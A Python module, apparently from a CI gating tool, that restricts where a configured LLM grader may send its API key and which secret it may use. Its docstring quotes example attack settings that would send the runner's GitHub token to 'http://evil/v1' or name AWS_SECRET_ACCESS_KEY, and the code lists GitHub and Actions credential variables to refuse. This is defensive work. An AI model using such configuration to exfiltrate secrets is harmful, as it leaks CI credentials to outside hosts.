"""Where a suite's LLM grader (gate.yml's `judge:`) may send its API key, and which key: the workflow
decides, never gate.yml. The pure URL and variable-name rules are in `gate.config.endpoints`.

gate.yml can come from the pull request under test. If it chose both the endpoint (`base_url`) and
the variable whose value travels as `Authorization: Bearer …` (`api_key_env`), a pull request could
send the runner's GitHub token to any host (`api_key_env: GITHUB_TOKEN`, `base_url: http://evil/v1`).
So, before any request:

- the endpoint must lie under a prefix of the allow-list that the workflow sets (action input
  `judge_endpoints`, or LLM_GATE_JUDGE_ENDPOINTS; default only https://api.openai.com/v1). URLs are
  compared normalised (scheme, lower-case host without trailing dots, port, whole path segments);
  userinfo, queries, fragments, backslashes, whitespace, `%` and dot segments are refused outright, and
  plain http is allowed to loopback hosts only (127.0.0.0/8, ::1, localhost), even when listed;
- the key's variable is named by the workflow (`judge_api_key_env`, LLM_GATE_JUDGE_API_KEY_ENV), else it is
  OPENAI_API_KEY (`DEFAULT_KEY_ENV`); gate.yml's `api_key_env` may only repeat that choice: one that names
  another variable is refused (an allowed endpoint would otherwise receive whichever secret a pull request
  names, `api_key_env: AWS_SECRET_ACCESS_KEY`). Never a GitHub or Actions variable (GITHUB_*, GH_*, INPUT_*,
  ACTIONS_*, RUNNER_*): Settings does not even keep those among the keys the judge can read. A key whose value
  equals a GitHub/Actions token is refused too (`OPENAI_API_KEY: ${{ github.token }}`).

The kind's grading client (`Kind.grade`, called by `gate.run.llm_grader`) then sends to the normalised URL only
and follows no redirect.
"""

from __future__ import annotations

from collections.abc import Iterable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from types import MappingProxyType
from typing import TYPE_CHECKING, Any

from gate.config.endpoints import DEFAULT_ENDPOINT, DEFAULT_KEY_ENV, Endpoint, key_name_problem, parse_endpoint
from gate.errors import ConfigError, Problem

if TYPE_CHECKING:
    from gate.config.grader import GraderConfig

ENDPOINTS_INPUT, ENDPOINTS_ENV = "judge_endpoints", "LLM_GATE_JUDGE_ENDPOINTS"
KEY_ENV_INPUT, KEY_ENV_ENV = "judge_api_key_env", "LLM_GATE_JUDGE_API_KEY_ENV"
# The action inputs, as the runner passes them; they win over the LLM_GATE_* variables.
INPUTS = {ENDPOINTS_INPUT: "INPUT_JUDGE_ENDPOINTS", KEY_ENV_INPUT: "INPUT_JUDGE_API_KEY_ENV"}
ALLOW_FIX = (f"if this endpoint is intended, the workflow must allow it: add it to the action input "
             f"`{ENDPOINTS_INPUT}` or to {ENDPOINTS_ENV} (comma- or newline-separated URL prefixes)")
_CREDENTIALS = ("GITHUB_TOKEN", "GH_TOKEN", "GH_ENTERPRISE_TOKEN", "GITHUB_ENTERPRISE_TOKEN", "INPUT_GITHUB_TOKEN",
                "ACTIONS_RUNTIME_TOKEN", "ACTIONS_ID_TOKEN_REQUEST_TOKEN")


@dataclass(frozen=True)
class GraderAccess:
    """The workflow's part of the judge's settings, read once from the environment (by `Settings.from_env`)."""

    endpoints: tuple[Endpoint, ...] = (parse_endpoint(DEFAULT_ENDPOINT),)
    key_env: str | None = None  # named by the workflow; None: DEFAULT_KEY_ENV. gate.yml's api_key_env may only agree
    # The variables a judge key may come from (never a forbidden name), and the tokens no key may equal.
    keys: Mapping[str, str] = field(default_factory=lambda: MappingProxyType({}), repr=False, compare=False)
    protected: frozenset[str] = field(default=frozenset(), repr=False, compare=False)

    @classmethod
    def from_env(cls, environ: Mapping[str, str], github_token: str | None = None) -> GraderAccess:
        def setting(input_name: str, env_name: str) -> tuple[str, str | None]:
            text = environ.get(INPUTS[input_name], "").strip()
            return (input_name, text) if text else (env_name, environ.get(env_name, "").strip() or None)

        problems = []
        where, listed = setting(ENDPOINTS_INPUT, ENDPOINTS_ENV)
        endpoints = []
        for entry in _split(listed or DEFAULT_ENDPOINT):
            try:
                endpoints.append(parse_endpoint(entry))
            except ValueError as exc:
                problems.append(Problem(field=where, expected="https URL prefixes of OpenAI-compatible APIs "
                                        "(http only to loopback)", found=str(exc), fix="correct or remove it"))
        key_where, key_env = setting(KEY_ENV_INPUT, KEY_ENV_ENV)
        why = key_name_problem(key_env) if key_env else None
        if why:
            problems.append(Problem(field=key_where, expected="the variable holding the judge's API key", found=why,
                                    fix="name a variable the workflow sets from a secret, e.g. OPENAI_API_KEY"))
        if problems:
            raise ConfigError("invalid LLM judge setting", problems)
        protected = {v.strip() for n in _CREDENTIALS if (v := environ.get(n, "")).strip()}
        if github_token and github_token.strip():
            protected.add(github_token.strip())
        return cls(endpoints=tuple(endpoints), key_env=key_env, protected=frozenset(protected),
                   keys=MappingProxyType({n: v for n, v in environ.items() if key_name_problem(n) is None}))

    def key_env_for(self, judge: GraderConfig) -> str:
        """The variable the judge's key is read from: the workflow's choice, never gate.yml's."""
        return self.key_env or DEFAULT_KEY_ENV

    def _source(self) -> str:
        return (f"named by the workflow's {KEY_ENV_INPUT}" if self.key_env
                else f"the default, as the workflow names none in {KEY_ENV_INPUT}")

    def problems(self, judge: GraderConfig) -> list[tuple[str, str, str, str]]:
        """(field, expected, found, fix) for each reason this judge may not send; [] when it may."""
        found: list[tuple[str, str, str, str]] = []
        endpoint = parse_endpoint(judge.base_url)  # validated when gate.yml was loaded
        if not any(allowed.covers(endpoint) for allowed in self.endpoints):
            found.append(("base_url", "an endpoint the workflow allows: "
                          + ", ".join(a.url for a in self.endpoints), repr(judge.base_url), ALLOW_FIX))
        name = self.key_env_for(judge)
        source = self._source()
        if "api_key_env" in judge.model_fields_set and judge.api_key_env != name:
            # gate.yml may come from the pull request: choosing the variable, it would choose which secret goes out
            found.append(("api_key_env", f"{name} ({source}), or no `api_key_env`",
                          f"{judge.api_key_env}: gate.yml may not choose which secret the judge sends",
                          f"remove `api_key_env` from gate.yml; if the judge's key is in {judge.api_key_env}, the "
                          f"workflow must name it: action input `{KEY_ENV_INPUT}: {judge.api_key_env}` "
                          f"(or {KEY_ENV_ENV}={judge.api_key_env})"))
            return found
        why = key_name_problem(name)
        key = self.keys.get(name, "").strip()
        if why:
            found.append(("api_key_env", "the variable holding the judge's API key", why,
                          "name a variable the workflow sets from a secret, e.g. OPENAI_API_KEY"))
        elif not key:
            found.append(("api_key_env", f"an API key in the environment variable {name} ({source})",
                          "it is unset or empty", f"export {name}=… (a repository secret in CI), "
                          "or set `judge: {enabled: false}`"))
        elif any(key == token or (len(token) >= 16 and token in key) for token in self.protected):
            found.append(("api_key_env", f"the judge's own API key in {name} ({source})",
                          "the GitHub token (its value equals a GitHub/Actions token of this run)",
                          f"set {name} from the judge provider's secret, never from github.token"))
        return found

    def key(self, judge: GraderConfig) -> str:
        """The API key to send; ConfigError when this judge may not send (see `check`)."""
        problems = self.problems(judge)
        if problems:
            raise ConfigError("LLM judge", [Problem(field=f"judge.{f}", expected=e, found=x, fix=fix)
                                            for f, e, x, fix in problems])
        return self.keys[self.key_env_for(judge)].strip()


def check(selected: Iterable[tuple[str, Any]], access: GraderAccess, config_path: Path) -> None:
    """Every enabled judge of the selected suites may send (before any model work or request); else a
    ConfigError naming gate.yml's line for each problem."""
    problems = []
    root = None
    for name, suite in selected:
        judge = getattr(suite, "judge", None)
        if judge is None or not judge.enabled:
            continue
        for field_name, expected, found, fix in access.problems(judge):
            if root is None:
                root = _positions(config_path)
            loc = ("suites", name, "judge", field_name)
            problems.append(Problem(file=str(config_path), line=_line(root, loc), field=".".join(loc),
                                    expected=expected, found=found, fix=fix))
    if problems:
        raise ConfigError("the LLM judge may not send", problems)


def _positions(path: Path) -> Any:
    from gate import io
    from gate.config.located import parse_yaml

    try:
        return parse_yaml(io.read_text(path, what="gate config"), str(path), "gate config")[1]
    except ConfigError:  # changed since it was loaded: the problems stay, without lines
        return None


def _line(root: Any, loc: tuple[str, ...]) -> int | None:
    from gate.config.located import line_of

    return line_of(root, loc) if root is not None else None


def _split(text: str) -> list[str]:
    return [part.strip() for line in text.splitlines() for part in line.split(",") if part.strip()]
